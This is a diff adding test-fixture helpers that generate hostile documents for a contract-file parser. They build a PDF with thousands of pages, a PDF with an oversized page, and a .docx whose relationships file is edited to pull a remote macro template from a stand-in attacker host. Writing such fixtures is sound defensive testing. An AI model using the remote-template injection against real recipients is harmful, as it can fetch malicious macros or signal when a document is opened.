@@ -143,3 +143,45 @@ def pdf_bytes(sections: list[tuple[str, str]]) -> bytes:
     styles = getSampleStyleSheet()
     SimpleDocTemplate(buf, pagesize=A4).build([Paragraph(p or h, styles["BodyText"]) for h, p in sections])
     return buf.getvalue()
+
+
+def many_pages_pdf(path: Path, pages: int = 3000) -> Path:
+    """A PDF with thousands of (nearly empty) pages."""
+    from reportlab.pdfgen import canvas
+
+    c = canvas.Canvas(str(path))
+    for i in range(pages):
+        c.drawString(72, 720, f"Page {i + 1}")
+        c.showPage()
+    c.save()
+    return path
+
+
+def huge_page_pdf(path: Path, side_pt: float = 14400 * 1.5) -> Path:
+    """A PDF whose single page is absurdly large (beyond the PDF 1.7 user-unit limit)."""
+    from reportlab.pdfgen import canvas
+
+    c = canvas.Canvas(str(path), pagesize=(side_pt, side_pt))
+    c.drawString(72, 72, "Article 1 : Objet")
+    c.showPage()
+    c.save()
+    return path
+
+
+def external_link_docx(path: Path, sections: list[tuple[str, str]]) -> Path:
+    """A valid contract .docx that also declares an external relationship (remote image/template)."""
+    write_docx(path, sections)
+    data = io.BytesIO(path.read_bytes())
+    out = io.BytesIO()
+    with zipfile.ZipFile(data) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
+        for item in zin.infolist():
+            content = zin.read(item.filename)
+            if item.filename == "word/_rels/document.xml.rels":
+                content = content.replace(
+                    b"</Relationships>",
+                    b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                    b'relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
+                    b'TargetMode="External"/></Relationships>')
+            zout.writestr(item, content)
+    path.write_bytes(out.getvalue())
+    return path
